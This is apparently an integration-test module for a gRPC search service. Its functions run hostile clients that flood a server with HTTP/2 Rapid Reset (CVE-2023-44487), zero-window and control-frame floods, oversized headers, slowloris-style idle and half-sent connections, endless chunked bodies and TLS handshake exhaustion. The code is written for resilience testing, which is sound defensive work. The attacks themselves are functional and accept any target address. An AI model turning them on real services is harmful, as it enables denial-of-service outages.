"""Hostile clients: `python -m tests.integration.hostile_client KIND ADDRESS` until it is killed.

They run in a separate process, so that they do not slow down the caller that a test measures.
"""

import contextlib
import itertools
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator

from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from chaja.v1 import SearchRequest
from tests.integration.raw_calls import greeting, headers, message, opened

SEARCH = "/chaja.v1.SearchService/Search"
IDLE_CONNECTIONS = 400
UNFINISHED_REQUESTS = 100_000
CHUNK = 200
"""Calls per write to the socket."""


def connect(address: str) -> socket.socket:
    """Returns a connected socket, which does not block afterwards."""
    host, port = address.split(":")
    client = socket.create_connection((host, int(port)), timeout=10)
    client.setblocking(False)
    return client


def flood(address: str, data: Callable[[], Iterator[bytes]], *, connections: int) -> None:
    """Sends `data` on each connection, as fast as the server reads it; replaces connections that the server closes."""
    with selectors.DefaultSelector() as selector:
        for _ in range(connections):
            selector.register(connect(address), selectors.EVENT_READ | selectors.EVENT_WRITE, [b"", data()])
        while True:
            for key, events in selector.select():
                client: socket.socket = key.fileobj  # type: ignore[assignment]
                try:
                    if events & selectors.EVENT_READ and not client.recv(1 << 20):
                        raise ConnectionError
                    if events & selectors.EVENT_WRITE:
                        pending, more = key.data
                        pending = pending or next(more, b"")
                        key.data[0] = pending[client.send(pending) :] if pending else b""
                        if not pending:
                            selector.modify(client, selectors.EVENT_READ, key.data)
                except BlockingIOError:
                    continue
                except OSError:
                    selector.unregister(client)
                    client.close()
                    time.sleep(0.01)
                    new = connect(address)
                    selector.register(new, selectors.EVENT_READ | selectors.EVENT_WRITE, [b"", data()])


def idle_connections(address: str) -> None:
    """Opens idle connections and holds them."""
    held = [connect(address) for _ in range(IDLE_CONNECTIONS)]
    while held:
        time.sleep(3600)


def half_prefaces(address: str) -> None:
    """Opens connections, sends half of HTTP/2's preface on each, and replaces those that the server closes."""

    def data() -> Iterator[bytes]:
        yield greeting()[:10]

    flood(address, data, connections=IDLE_CONNECTIONS)


def connection_storm(address: str) -> None:
    """Opens connections and resets them, as fast as the server accepts them."""
    while True:
        with contextlib.suppress(OSError), connect(address) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            client.send(greeting())


def zero_window(address: str) -> None:
    """Sends searches, and opens no window for the answers."""
    request = SearchRequest(query="송금").SerializeToString()

    def data() -> Iterator[bytes]:
        yield greeting({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        for stream in range(1, 20_000, 2):
            yield headers(SEARCH, stream) + message(request, stream)

    flood(address, data, connections=4)


def unfinished_requests(address: str) -> None:
    """Begins calls without a token whose messages never arrive."""

    def data() -> Iterator[bytes]:
        yield greeting()
        for start in range(0, UNFINISHED_REQUESTS // 10, CHUNK):
            yield b"".join(headers(SEARCH, 2 * number + 1) for number in range(start, start + CHUNK))

    flood(address, data, connections=10)


def large_headers(address: str) -> None:
    """Begins searches with 40 KB of headers."""

    def data() -> Iterator[bytes]:
        yield greeting()
        for stream in itertools.count(1, 2):
            yield headers(SEARCH, stream, large="x" * 40_000)

    flood(address, data, connections=2)


def rapid_reset(address: str) -> None:
    """Begins searches and resets them at once (CVE-2023-44487)."""
    request = SearchRequest(query="송금", limit=100).SerializeToString()

    def data() -> Iterator[bytes]:
        yield greeting()
        for start in itertools.count(0, CHUNK):
            streams = range(2 * start + 1, 2 * (start + CHUNK) + 1, 2)
            yield b"".join(
                headers(SEARCH, stream) + message(request, stream) + RstStreamFrame(stream, error_code=8).serialize()
                for stream in streams
            )

    flood(address, data, connections=2)


def control_frames(address: str) -> None:
    """Sends PING, SETTINGS and WINDOW_UPDATE frames as fast as the server reads them."""
    frames = [PingFrame(0, b"12345678"), SettingsFrame(0), WindowUpdateFrame(1, window_increment=1)]
    chunk = b"".join(frame.serialize() for frame in frames) * CHUNK

    def data() -> Iterator[bytes]:
        yield opened(SEARCH)
        yield from itertools.repeat(chunk)

    flood(address, data, connections=2)


def idle_monitoring(address: str) -> None:
    """Opens connections to the port of the metrics, sends half a request on each, and opens new ones without end."""
    held: list[socket.socket] = []
    while True:
        with contextlib.suppress(TimeoutError):
            held.append(connect(address))
            held[-1].send(b"GET /metrics HTTP/1.1\r\n")
        if len(held) > IDLE_CONNECTIONS:
            held.pop(0).close()


def endless_scrapes(address: str) -> None:
    """Asks for the metrics as fast as the server answers."""

    def data() -> Iterator[bytes]:
        yield b"GET /metrics HTTP/1.0\r\n\r\n"

    flood(address, data, connections=20)


def endless_requests(address: str) -> None:
    """Asks for a probe, and sends a body of small chunks without end."""

    def data() -> Iterator[bytes]:
        yield b"GET /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        yield from itertools.repeat(b"1\r\nx\r\n" * 10_000)

    flood(address, data, connections=4)


def endless_handshakes(address: str) -> None:
    """Begins TLS handshakes on the port of the metrics without end, and makes the server sign in each."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    held: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            held.append(connect(address))
            outgoing = ssl.MemoryBIO()
            with contextlib.suppress(ssl.SSLWantReadError):
                context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
            held[-1].send(outgoing.read())
        if len(held) > IDLE_CONNECTIONS:
            held.pop(0).close()


MONITORING = (idle_monitoring, endless_scrapes, endless_requests, endless_handshakes)
"""Those that attack the port of the metrics."""

KINDS = {
    each.__name__: each
    for each in (
        idle_connections,
        half_prefaces,
        connection_storm,
        zero_window,
        unfinished_requests,
        large_headers,
        rapid_reset,
        control_frames,
        *MONITORING,
    )
}

if __name__ == "__main__":
    KINDS[sys.argv[1]](sys.argv[2])
